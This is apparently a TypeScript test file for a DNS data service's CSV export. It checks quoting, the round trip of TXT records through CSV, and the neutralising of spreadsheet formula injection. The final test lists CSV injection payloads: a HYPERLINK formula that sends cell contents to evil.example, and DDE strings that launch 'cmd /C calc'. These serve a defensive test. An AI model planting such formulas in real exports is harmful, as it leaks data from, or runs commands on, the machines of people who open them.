import t from 'tap'
import { fileURLToPath } from 'node:url'
import { csvField, csvRow } from '../../src/api/output/csv-writer.js'
import { ingestFile } from '../../src/ingest/file-ingest.js'
import { InlineWriter } from '../../src/ingest/inline-writer.js'
import { parseCsv } from '../helpers/csv-parse.js'
import { batchOf } from '../helpers/temp-store.js'
import { testApp } from '../helpers/test-app.js'
import type { Store } from '../../src/store/store.js'

const TXT_FIXTURE = fileURLToPath(
  new URL('../fixtures/feeds/spamhaus_pdns_txt.txt', import.meta.url))

t.test('fields are quoted when they hold a comma, a quote, CR or LF; rows end with CRLF',
  async (t) => {
    t.equal(csvField('plain text; ok'), 'plain text; ok')
    t.equal(csvField('a,b'), '"a,b"')
    t.equal(csvField('"v=spf1 -all"'), '"""v=spf1 -all"""')
    t.equal(csvField('one\r\ntwo\nthree\r'), '"one\r\ntwo\nthree\r"')
    t.equal(csvField(1467700000), '1467700000')
    t.equal(csvField(null), '')
    t.equal(csvField(undefined), '')
    t.equal(csvField('ünïcode ☃'), 'ünïcode ☃')
    t.equal(csvRow(['a', 'b,c', 3]), 'a,"b,c",3\r\n')
  })

t.test('text a spreadsheet would run as a formula gets a leading apostrophe', async (t) => {
  t.equal(csvField('=HYPERLINK("http://x.example","y")'),
    '"\'=HYPERLINK(""http://x.example"",""y"")"')
  t.equal(csvField('+1+2'), "'+1+2")
  t.equal(csvField('-2+3'), "'-2+3")
  t.equal(csvField('@SUM(A1)'), "'@SUM(A1)")
  t.equal(csvField('\t=1'), "'\t=1")
  t.equal(csvField('\r=1'), '"\'\r=1"')
  t.equal(csvField('a=1'), 'a=1', 'only a leading character counts')
  t.equal(csvField('"=1"'), '"""=1"""', 'a quoted TXT string begins with a quote, not =')
})

async function fillTxt (store: Store): Promise<void> {
  await ingestFile(new InlineWriter(store), 'spamhaus_pdns_txt', TXT_FIXTURE)
}

interface JsonRecord {
  [field: string]: string | number
}

t.test('real TXT records survive the trip through CSV: a reader gets every field back',
  async (t) => {
    let store: Store | undefined
    const app = await testApp(t, (s) => { store = s })
    await fillTxt(store as Store)
    const url = '/v1/domains/*.com?type=TXT'
    const json = (await app.inject(`${url}&limit=1000`)).json() as { records: JsonRecord[] }
    t.ok(json.records.length > 100, `${json.records.length} TXT records`)
    t.ok(json.records.some((r) => String(r.rdata).includes(',')), 'some rdata hold commas')
    t.ok(json.records.some((r) => String(r.rdata).includes('" "')), 'some hold several strings')

    const res = await app.inject(`${url}&format=csv`)
    t.equal(res.headers['content-type'], 'text/csv; charset=utf-8')
    t.equal(res.headers['content-disposition'],
      'attachment; filename="dnsledger-domains-com-subtree.csv"')
    const rows = parseCsv(res.body)
    const [header, ...body] = rows
    t.same(header, ['rrname', 'rrtype', 'rdata', 'first_seen', 'last_seen', 'first_seen_iso',
      'last_seen_iso', 'count'])
    const expected = json.records.map((r) => (header ?? []).map((column) => String(r[column])))
    t.same(body, expected, 'every row is the JSON record, field for field')
    t.equal(res.trailers['x-dnsledger-truncated'], 'false')
  })

t.test('set-aside messages with CR, LF, quotes and formulas come out as one safe row each',
  async (t) => {
    const payloads = [
      '=HYPERLINK("http://evil.example/?"&A1,"click")|www.example.com|192.0.2.1',
      '1467700000|line one\r\nline two|192.0.2.1',
      '+cmd|\' /C calc\'!A0',
      '@SUM(1+1)*cmd|\' /C calc\'!A0',
      '-2+3+cmd|\' /C calc\'!A0',
      'plain,"quoted",text'
    ]
    const app = await testApp(t, (store) => store.write(batchOf([], {
      rejects: payloads.map((payload, i) => ({
        topic: 'spamhaus_pdns_ipv4',
        partition: 0,
        offset: String(i),
        code: 'bad_fields',
        reason: 'wrong number of | fields',
        payload: Buffer.from(payload)
      }))
    })))
    const res = await app.inject('/v1/rejected?format=csv')
    const rows = parseCsv(res.body)
    const column = rows[0]?.indexOf('payload_head') ?? -1
    t.ok(column >= 0)
    const heads = rows.slice(1).map((row) => row[column])
    t.same(heads, payloads.map((p) => /^[=+\-@]/.test(p) ? `'${p}` : p))
    for (const head of heads) t.notOk(/^[=+\-@\t\r]/.test(head ?? ''), `${head} is inert`)
    t.ok(res.body.includes('"1467700000|line one\r\nline two|192.0.2.1"'), 'CRLF kept, quoted')
  })
